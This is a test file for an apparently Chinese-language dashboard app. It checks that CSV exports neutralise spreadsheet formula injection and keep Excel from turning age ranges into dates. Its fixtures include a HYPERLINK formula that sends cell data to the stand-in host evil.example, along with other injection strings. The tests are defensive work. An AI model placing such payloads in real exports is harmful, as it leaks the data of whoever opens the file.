/**
 * Issue 11, item 9: CSV downloads (the dashboard's chart CSV, the report tables' CSV and the
 * planning table's) must not hand a spreadsheet a formula. Text cells starting with =, +, -, @, tab or CR get a leading
 * apostrophe (the OWASP rule); numbers keep their sign.
 */
import { describe, expect, it } from 'vitest';
import { tableCsv, type BuiltTable } from '../../server/notebooks/tables.ts';
import { exportCsv } from '../../web/src/exportRows.ts';
import { tableToCsv } from '../../server/outputs/csv.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'];

describe('CSV formula injection', () => {
  it('the dashboard CSV neutralises text cells and keeps numbers', () => {
    const csv = exportCsv({ headers: ['=名称', '值'], decimals: [undefined, 1], rows: HOSTILE.map((name, i) => [name, -1.5 * (i + 1)]) });
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe("'=名称,值");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",-1.5`);
    expect(lines[2]).toBe("'+1+1,-3.0");
    expect(lines[3]).toBe("'-2+3,-4.5");
    expect(lines[4]).toBe("'@SUM(A1:A2),-6.0");
    expect(lines[5]).toBe("'\t=1,-7.5");
    expect(lines[6]).toBe(`"'\r=1",-9.0`);
  });

  it('an age group Excel would open as a date (3-5 → 3月5日) is written with an en dash, in every table CSV', () => {
    const groups = ['0-4', '3-5', '10-14', '95-99', '100+', '2015-2024', 'C2024-001'];
    const web = exportCsv({ headers: ['年龄'], decimals: [undefined], rows: groups.map((g) => [g]) }).replace(/^\uFEFF/, '').split('\r\n');
    const expected = ['0–4', '3–5', '10–14', '95–99', '100+', '2015-2024', 'C2024-001'];
    expect(web.slice(1, -1)).toEqual(expected);
    const server = tableToCsv({ title: 't', columns: [{ header: '年龄' }], rows: groups.map((g) => [g]) }).replace(/^\uFEFF/, '').split('\r\n');
    expect(server.slice(1, -1)).toEqual(expected);
    const report = tableCsv({ title: 't', note: '', columns: [{ field: 'age', header: '年龄', formats: [] }], rows: groups.map((age) => ({ age })) });
    expect(report.replace(/^\uFEFF/, '').split('\r\n').slice(1, -1)).toEqual(expected);
  });

  it('the server table files (planning table, 考核) neutralise text cells and keep numbers', () => {
    const csv = tableToCsv({ title: 't', columns: [{ header: '乡镇' }, { header: '人数', decimals: 0 }], rows: HOSTILE.map((name, i) => [name, -(i + 1)]) });
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",-1`);
    expect(lines[2]).toBe("'+1+1,-2");
    expect(lines[6]).toBe(`"'\r=1",-6`);
  });

  it('report tables neutralise text cells and keep formatted numbers', () => {
    const table: BuiltTable = {
      title: 't', note: '',
      columns: [{ field: 'name', header: '乡镇', formats: [] }, { field: 'change', header: '增减', formats: ['fixed:1'] }],
      rows: HOSTILE.map((name, i) => ({ name, change: -(i + 1) })),
    };
    const lines = tableCsv(table).replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",-1.0`);
    expect(lines[3]).toBe("'-2+3,-3.0");
    expect(lines[4]).toBe("'@SUM(A1:A2),-4.0");
  });
});
